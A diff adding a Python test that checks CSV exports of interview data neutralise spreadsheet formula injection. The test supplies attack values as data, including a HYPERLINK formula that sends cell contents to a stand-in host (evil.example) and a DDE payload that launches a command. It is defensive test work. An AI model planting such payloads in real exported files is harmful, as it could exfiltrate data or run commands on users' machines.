@@ -57,3 +57,25 @@ def test_tables_load_in_pandas_without_cleaning(tmp_path):
     assert iv["n_tags"].dtype.kind == "i"
     tags = pd.read_csv(tmp_path / "tags.csv")
     assert tags.merge(iv, on="packet_id").shape[0] == len(tags)
+
+
+def test_formula_cells_are_neutralised(tmp_path):
+    """A participant's words (or a hostile packet) must not run in the coordinator's spreadsheet."""
+    corpus = make_corpus(2)
+    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)",
+               "\t=1+1", "\r=1+1"]
+    for seg, text in zip(corpus[0]["segments"], attacks, strict=False):
+        seg["text"] = text
+    corpus[0]["interview"]["site"] = "=cmd|' /C calc'!A0"
+    paths = write_csv(aggregate_interviews(corpus), tmp_path / "csv")
+    for path in paths:
+        for row in _read(path):
+            for value in row.values():
+                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (path.name, value)
+    texts = [r["text"] for r in _read(tmp_path / "csv" / "segments.csv")]
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in texts and "'+1+2" in texts
+    assert "'=1+1" in texts  # the leading CR was folded away, then the formula neutralised
+    sites = {r["site"] for r in _read(tmp_path / "csv" / "interviews.csv")}
+    assert "'=cmd|' /C calc'!A0" in sites
+    # numbers stay numbers
+    assert all(r["start_ms"].isdigit() for r in _read(tmp_path / "csv" / "segments.csv"))
